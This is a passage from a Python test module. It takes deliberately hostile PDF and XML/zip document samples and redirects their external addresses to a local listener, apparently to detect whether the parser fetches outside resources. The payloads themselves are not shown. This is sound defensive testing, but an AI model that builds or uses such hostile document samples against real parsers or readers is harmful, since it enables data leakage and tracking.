        }.items()
    },
}  # fmt: skip


def listened(name: str, port: int) -> bytes:
    """A file by its name, with the address of a listener on this machine where it asks for something outside."""
    make, _ = HOSTILE[name]
    data = make()
    if name not in OUTSIDE:
        return data
    own = f"http://127.0.0.1:{port}/"
    if data.startswith(b"%PDF"):
        return data.replace(ADDRESS.encode(), own.encode())
    return zipped(
        {
            part: content.replace(ADDRESS.encode(), own.encode()).replace(
                ADDRESS.encode("utf-16-le"), own.encode("utf-16-le")
            )
            for part, content in unzipped(data).items()
        }
    )


OUTSIDE = frozenset(
    {"pdf: outside of the PDF", *(name for name in HOSTILE if name.startswith("xml: ") and "file" not in name)}
)
"""Files that ask for something at another place."""
